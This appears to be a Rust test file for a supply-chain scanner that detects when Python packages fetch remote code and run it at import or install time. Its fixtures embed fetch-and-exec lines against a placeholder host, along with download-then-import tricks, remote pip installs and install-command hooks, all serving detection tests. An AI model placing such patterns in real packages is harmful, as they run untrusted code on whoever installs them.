use crate::flow::testing::{found, wheel};
use crate::unpack::{Entry, text_file as file};
use customs_model::{SinkKind, SourceKind, Zone};

/// Code that is fetched and run, in a function that somebody has to call.
const GO: &str = "\
import sys
import urllib.request
def go(*more, **named):
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";

fn runs_by(entries: Vec<Entry>, zone: Zone) -> bool {
    found(entries).flows.iter().any(|flow| {
        flow.source == SourceKind::Remote
            && matches!(flow.sink, SinkKind::DynamicCode | SinkKind::Process)
            && flow.zone >= zone
    })
}

/// Whether importing a package runs what its module `b` can do.
fn module(code: &str, others: &[(&str, &str)]) -> bool {
    let mut entries = wheel(code);
    entries.push(file("a/b.py", GO));
    entries.extend(others.iter().map(|(path, text)| file(path, text)));
    runs_by(entries, Zone::Import)
}

/// The same where all of it stands in one file.
fn own(code: &str) -> bool {
    module(&format!("{GO}{code}"), &[])
}

fn build(entries: &[(&str, &str)]) -> bool {
    let mut all = vec![file("PKG-INFO", "Name: a\nVersion: 1.0\n")];
    all.extend(entries.iter().map(|(path, text)| file(path, text)));
    runs_by(all, Zone::Install)
}

#[test]
fn a_module_that_is_imported_by_its_whole_name_is_followed() {
    for code in [
        "import a.b\na.b.go()\n",
        "import a.b\ngetattr(a, 'b').go()\n",
        "import importlib\nimportlib.import_module('a.b').go()\n",
        "import importlib\nimportlib.import_module('.b', __package__).go()\n",
        "import importlib\nimportlib.import_module('.' + 'b', package=__name__).go()\n",
        "import importlib\nimportlib.import_module(__name__ + '.b').go()\n",
        "__import__('a.b').b.go()\n",
        "__import__('a.b', fromlist=['go']).go()\n",
        "__import__('b', globals(), locals(), ['go'], 1).go()\n",
        "import sys\nfrom . import b\nsys.modules['a.b'].go()\n",
        "import sys\nfrom . import b\nsys.modules[__name__ + '.b'].go()\n",
        "import pkgutil\npkgutil.resolve_name('a.b:go')()\n",
        "from . import b\nvars(b)['go']()\n",
        "from . import b\nb.__dict__['go']()\n",
        "import importlib\nfor n in ('c', 'b'):\n    importlib.import_module(f'a.{n}').go()\n",
        "import importlib.util, os\np = os.path.join(os.path.dirname(__file__), 'b.py')\n\
         s = importlib.util.spec_from_file_location('b', p)\n\
         m = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\nm.go()\n",
        "exec('from a.b import go; go()')\n",
    ] {
        assert!(module(code, &[]), "{code}");
    }
    for code in [
        "import a.b\n",
        "import a.b\na.b.other()\n",
        "import importlib\nimportlib.import_module('a.b')\n",
        "import importlib\nimportlib.import_module('json').go()\n",
        "__import__('a.b').go()\n",
        "import sys\nfrom . import b\nsys.modules['json'].go()\n",
    ] {
        assert!(!module(code, &[]), "{code}");
    }
}

#[test]
fn names_go_through_stars_and_modules_as_far_as_they_are_handed_on() {
    let star = ("a/c.py", "from .b import *\n");
    let far = ("a/d.py", "from .c import *\n");
    let named = ("a/c.py", "from .b import go\n");
    let own = ("a/c.py", "from .b import go as print\n");
    assert!(module("from .c import *\ngo()\n", &[star]));
    assert!(module("from .d import *\ngo()\n", &[star, far]));
    assert!(module("from . import d\nd.go()\n", &[star, far]));
    assert!(module("from .c import go\ngo()\n", &[named]));
    assert!(module("from .c import *\nprint()\n", &[own]));
    assert!(!module("from .c import *\nprint()\n", &[star]));
    let circle = [
        ("a/c.py", "from .d import *\n"),
        ("a/d.py", "from .c import *\n"),
    ];
    assert!(!module("from .c import *\ngo()\n", &circle));
}

#[test]
fn what_is_put_on_a_class_or_into_a_module_runs_where_that_is_read() {
    for code in [
        "class C:\n    pass\nC.f = go\nC().f()\n",
        "class C:\n    pass\nC.f = go\nC.f()\n",
        "class C:\n    pass\nC.__init__ = go\nC()\n",
        "class C:\n    pass\nclass D(C):\n    pass\nC.f = go\nD().f()\n",
        "class C:\n    pass\nc = C()\nc.f = go\ndef run(x):\n    x.f()\nrun(c)\n",
        "from . import c\nc.hook = go\nc.run()\n",
        "from . import c\nc.table['x'] = go\nc.run_table('x')\n",
    ] {
        let other =
            "hook = None\ntable = {}\ndef run():\n    hook()\ndef run_table(n):\n    table[n]()\n";
        let code = format!("{GO}{code}");
        assert!(module(&code, &[("a/c.py", other)]), "{code}");
    }
    for code in [
        "class C:\n    pass\nC.f = go\nC()\n",
        "class C:\n    pass\nclass D:\n    def f(self):\n        pass\nC.f = go\nD().f()\n",
        "from . import c\nc.hook = go\n",
        "from . import c\nc.hook = go\nhook = print\nhook()\n",
    ] {
        let code = format!("{GO}{code}");
        assert!(!module(&code, &[("a/c.py", "hook = None\n")]), "{code}");
    }
}

#[test]
fn what_makes_a_class_runs_with_it() {
    for code in [
        "class M(type):\n    def __new__(m, n, b, d):\n        go()\nclass C(metaclass=M):\n    pass\n",
        "class M(type):\n    def __prepare__(m, n, b):\n        go()\nclass C(metaclass=M):\n    pass\n",
        "class M(type):\n    def __init__(m, n, b, d):\n        go()\nclass B(metaclass=M):\n    pass\nclass C(B):\n    pass\n",
        "class M(type):\n    def __call__(c):\n        go()\nclass C(metaclass=M):\n    pass\nC()\n",
        "class C(metaclass=go):\n    pass\n",
        "class C:\n    @classmethod\n    def make(cls):\n        return cls()\n    def __init__(self):\n        go()\nC.make()\n",
        "class B:\n    @classmethod\n    def start(cls):\n        cls.step()\nclass C(B):\n    @classmethod\n    def step(cls):\n        go()\nC.start()\n",
        "class B:\n    def __init_subclass__(cls):\n        cls.step()\nclass C(B):\n    @classmethod\n    def step(cls):\n        go()\n",
        "import enum\nclass C(enum.Enum):\n    A = 1\n    def __init__(self, v):\n        go()\n",
    ] {
        assert!(own(code), "{code}");
    }
    for code in [
        "class M(type):\n    def __call__(c):\n        go()\nclass C(metaclass=M):\n    pass\n",
        "class M(type):\n    def other(c):\n        go()\nclass C(metaclass=M):\n    pass\n",
        "class C:\n    @classmethod\n    def make(cls):\n        return cls\n    def __init__(self):\n        go()\nC.make()\n",
    ] {
        assert!(!own(code), "{code}");
    }
}

#[test]
fn methods_that_the_library_calls_run_when_it_is_told_to() {
    for code in [
        "import threading\nclass T(threading.Thread):\n    def run(self):\n        go()\nT().start()\n",
        "import threading\nclass T(threading.Thread):\n    def __init__(self):\n        self.start()\n    def run(self):\n        go()\nT()\n",
        "import cmd\nclass C(cmd.Cmd):\n    def do_x(self, a):\n        go()\nC().onecmd('x')\n",
        "import ast\nclass V(ast.NodeVisitor):\n    def visit_Name(self, n):\n        go()\nV().visit(1)\n",
        "import logging\nclass H(logging.Handler):\n    def emit(self, r):\n        go()\nlogging.getLogger().addHandler(H())\n",
        "import sys\nclass F:\n    def find_spec(self, n, p):\n        go()\nsys.meta_path.insert(0, F())\n",
        "import threading\nclass C:\n    def __call__(self):\n        go()\nthreading.Thread(target=C()).start()\n",
        "import contextlib\nclass C:\n    def close(self):\n        go()\nwith contextlib.closing(C()):\n    pass\n",
    ] {
        assert!(own(code), "{code}");
    }
    for code in [
        "import threading\nclass T(threading.Thread):\n    def run(self):\n        go()\nT()\n",
        "import threading\nclass T(threading.Thread):\n    def other(self):\n        go()\nT().start()\n",
        "class T:\n    def run(self):\n        go()\n    def start(self):\n        pass\nT().start()\n",
        "import logging\nclass H(logging.Handler):\n    def emit(self, r):\n        go()\nH()\n",
        "class C:\n    def __call__(self):\n        go()\nprint(C())\n",
    ] {
        assert!(!own(code), "{code}");
    }
}

#[test]
fn a_method_whose_name_is_computed_is_each_that_begins_so() {
    let class = "class C:\n    def do_x(self):\n        go()\n    def other(self):\n        pass\n";
    for run in [
        "    def run(self, n):\n        getattr(self, 'do_' + n)()\nC().run('x')\n",
        "    def run(self, n):\n        m = getattr(self, f'do_{n}', None)\n        m()\nC().run('x')\n",
        "    def run(self, n):\n        getattr(self, n)()\nC().run('do_x')\n",
        "    def run(self):\n        for n in dir(self):\n            if n.startswith('do_'):\n                getattr(self, n)()\nC().run()\n",
        "    def run(self, n):\n        self.table[n]()\n    def __init__(self):\n        self.table = {'x': self.do_x}\nC().run('x')\n",
    ] {
        assert!(own(&format!("{class}{run}")), "{run}");
    }
    for run in [
        "    def run(self, n):\n        getattr(self, 'to_' + n)()\nC().run('x')\n",
        "    def run(self, n):\n        getattr(self, n)()\nC().run('other')\n",
        "    def run(self, n):\n        getattr(self, n)()\nC().run(sys.argv[1])\n",
        "    def run(self):\n        for n in dir(self):\n            if n.startswith('to_'):\n                getattr(self, n)()\nC().run()\n",
    ] {
        assert!(!own(&format!("{class}{run}")), "{run}");
    }
}

#[test]
fn what_is_handed_over_is_what_it_is_computed_to_be() {
    for code in [
        "import threading\nthreading.Thread(target=[go][0]).start()\n",
        "import threading\ndef make():\n    return go\nthreading.Thread(target=make()).start()\n",
        "import threading\nthreading.Thread(**{'target': go}).start()\n",
        "import threading\nf = go if sys.argv else None\nthreading.Thread(target=f).start()\n",
        "functions = [go]\ndef call(*all):\n    all[0]()\ncall(*functions)\n",
        "T = (go,)\ndef call(all):\n    for f in all:\n        f()\ncall(T)\n",
        "all = [print] * 300 + [go]\nfor f in all:\n    f()\n",
        "all = [PRINTS go]\nfor f in all:\n    f()\n",
        "class C:\n    def step(self):\n        go()\nfor make in [C]:\n    make().step()\n",
        "class B:\n    pass\nclass C(B):\n    def step(self):\n        go()\nfor make in B.__subclasses__():\n    make().step()\n",
        "def call(f):\n    f()\nclass C:\n    def __call__(self):\n        go()\ncall(C())\n",
        "class C:\n    def __init__(self, *all):\n        self.all = all\n    def run(self):\n        for f in self.all:\n            f.step()\nclass S:\n    def step(self):\n        go()\nC(S(), S()).run()\n",
    ] {
        let code = code.replace("PRINTS", &"print, ".repeat(1_000));
        assert!(own(&code), "{code}");
    }
    for code in [
        "T = (go,)\ndef call(all):\n    for f in all:\n        print(f.__name__)\ncall(T)\n",
        "def make():\n    return print\nimport threading\nthreading.Thread(target=make()).start()\n",
        "class C:\n    def step(self):\n        go()\nfor make in [C]:\n    make()\n",
    ] {
        assert!(!own(code), "{code}");
    }
}

#[test]
fn a_class_far_above_another_one_has_its_methods() {
    let chain: String = (1..40)
        .map(|at| format!("class C{at}(C{}):\n    pass\n", at - 1))
        .collect();
    let first = "class C0:\n    def run(self):\n        go()\n";
    assert!(own(&format!("{first}{chain}C39().run()\n")));
    assert!(!own(&format!("{first}{chain}C39().walk()\n")));
    // Two above each: all of it is looked at once.
    let wide: String = (1..60)
        .map(|at| {
            format!(
                "class L{at}(L{0}, R{0}):\n    pass\nclass R{at}(L{0}, R{0}):\n    pass\n",
                at - 1
            )
        })
        .collect();
    let wide = format!(
        "class L0:\n    def run(self):\n        go()\nclass R0:\n    pass\n{wide}L59().run()\n"
    );
    assert!(own(&wide));
}

#[test]
fn functions_of_the_library_that_are_called_by_others_run_what_they_get() {
    let remote = "urllib.request.urlopen('https://a.invalid/b').read()";
    for code in [
        "import threading\nthreading.Thread(target=exec, args=(REMOTE,)).start()\n",
        "import atexit\natexit.register(exec, REMOTE)\n",
        "import functools\nfunctools.partial(exec)(REMOTE)\n",
        "import functools\nfunctools.partial(exec, REMOTE)()\n",
        "list(map(exec, [REMOTE]))\n",
        "exec.__call__(REMOTE)\n",
        "class C:\n    def __init__(self):\n        self.e = exec\n    def r(self, c):\n        self.e(c)\nC().r(REMOTE)\n",
    ] {
        let code = code.replace("REMOTE", remote);
        assert!(
            module(&format!("import urllib.request\n{code}"), &[]),
            "{code}"
        );
    }
    for code in [
        "import threading\nthreading.Thread(target=print, args=(REMOTE,)).start()\n",
        "import functools\nfunctools.partial(exec, 'pass')()\nprint(REMOTE)\n",
        "list(map(len, [REMOTE]))\n",
    ] {
        let code = code.replace("REMOTE", remote);
        assert!(
            !module(&format!("import urllib.request\n{code}"), &[]),
            "{code}"
        );
    }
}

#[test]
fn a_builder_calls_what_settings_name_and_what_a_back_end_hands_on() {
    let setup = ("setup.py", "from setuptools import setup\nsetup()\n");
    let command = format!(
        "{GO}from setuptools.command.install import install\nclass X(install):\n    def run(self):\n        go()\n"
    );
    let named = ("setup.cfg", "[options]\ncmdclass =\n    install = cmds.X\n");
    assert!(build(&[setup, named, ("cmds.py", &command)]));
    let other = ("setup.cfg", "[options]\nname = a\n[x]\ninstall = cmds.X\n");
    assert!(!build(&[setup, other, ("cmds.py", &command)]));
    let manifest = "[build-system]\nbuild-backend = 'be'\nbackend-path = ['.']\n";
    let inner = format!("{GO}def build_wheel(*all):\n    go()\n");
    for hands_on in ["from impl import *\n", "from impl import build_wheel\n"] {
        let files = [
            ("pyproject.toml", manifest),
            ("be.py", hands_on),
            ("impl.py", &inner),
        ];
        assert!(build(&files), "{hands_on}");
    }
    let own = format!("{GO}def _b(*all):\n    go()\nbuild_wheel = _b\n");
    assert!(build(&[("pyproject.toml", manifest), ("be.py", &own)]));
    let idle = format!("{GO}def _b(*all):\n    go()\nbuild_wheel = print\n");
    assert!(!build(&[("pyproject.toml", manifest), ("be.py", &idle)]));
    // A command has what the classes above it do.
    let above = format!(
        "{GO}from setuptools import setup\nfrom setuptools.command.install import install\n\
         class P:\n    def run(self):\n        go()\nclass X(P, install):\n    pass\n\
         setup(cmdclass={{'install': X}})\n"
    );
    assert!(build(&[("setup.py", &above)]));
}

#[test]
fn a_text_that_a_module_runs_calls_its_functions_and_is_what_it_documents() {
    let fetch = "import urllib.request; exec(urllib.request.urlopen('https://a.invalid/b').read())";
    assert!(own("exec('go()')\n"));
    assert!(own("eval('go')()\n"));
    assert!(own(
        "class C:\n    def __init__(self):\n        go()\nexec('C()')\n"
    ));
    assert!(module(
        &format!("def f():\n    \"{fetch}\"\nexec(f.__doc__)\n"),
        &[]
    ));
    assert!(!own("exec('go')\n"));
    assert!(!own("exec('def go():\\n    pass\\ngo()')\n"));
    assert!(!own("exec('x = \"go()\"')\n"));
}

#[test]
fn an_address_is_what_a_field_or_a_property_gives() {
    let remote = "import urllib.request\nclass C:\n    def __init__(self, u):\n        self._u = 'https://a.invalid/b'\n    @property\n    def url(self):\n        return 'https://a.invalid/b'\n    def run(self):\n        exec(urllib.request.urlopen(ADDRESS).read())\nC(1).run()\n";
    for address in ["self._u", "self.url", "C(1).url"] {
        let code = remote.replace("ADDRESS", address);
        let found = found(wheel(&code));
        let mut flows = found.flows.iter();
        assert!(
            flows.any(|flow| flow.source_name.contains("a.invalid")),
            "{address}: {:?}",
            found.flows
        );
    }
}

#[test]
fn a_module_that_is_written_where_a_file_looks_for_modules_is_run_by_its_import() {
    let write = "import sys, urllib.request\nurllib.request.urlretrieve('https://a.invalid/b', '/tmp/zz.py')\n";
    for import in [
        "sys.path.insert(0, '/tmp')\nimport zz\n",
        "sys.path.append('/tmp')\n__import__('zz')\n",
        "import importlib.util\ns = importlib.util.spec_from_file_location('zz', '/tmp/zz.py')\n",
    ] {
        assert!(runs_file(&format!("{write}{import}")), "{import}");
    }
    for import in [
        "import zz\n",
        "sys.path.insert(0, '/opt')\nimport zz\n",
        "sys.path.insert(0, '/tmp')\nimport yy\n",
    ] {
        assert!(!runs_file(&format!("{write}{import}")), "{import}");
    }
}

fn runs_file(code: &str) -> bool {
    let found = found(wheel(code));
    found
        .flows
        .iter()
        .any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Import)
}

#[test]
fn pip_runs_what_it_is_told_to_install_by_its_address() {
    for code in [
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'https://a.invalid/b.tar.gz'])\n",
        "import os\nos.system('pip install git+https://a.invalid/b')\n",
        "import pip\npip.main(['install', 'https://a.invalid/b.tar.gz'])\n",
        "import os\nos.system('pip install -i https://a.invalid/simple b')\n",
    ] {
        assert!(module(code, &[]), "{code}");
    }
    for code in [
        "import os\nos.system('pip install -i file:///simple b')\n",
        "import pip\npip.main(['list'])\n",
    ] {
        assert!(!module(code, &[]), "{code}");
    }
}

#[test]
fn a_module_that_answers_for_names_runs_where_it_is_asked_for_one_that_it_has_not() {
    let answers = format!("{GO}def __getattr__(name):\n    go()\nknown = 1\n");
    let other = [("a/c.py", answers.as_str())];
    assert!(module("from .c import anything\n", &other));
    assert!(!module("from .c import known\n", &other));
    assert!(!module("from . import c\n", &other));
}
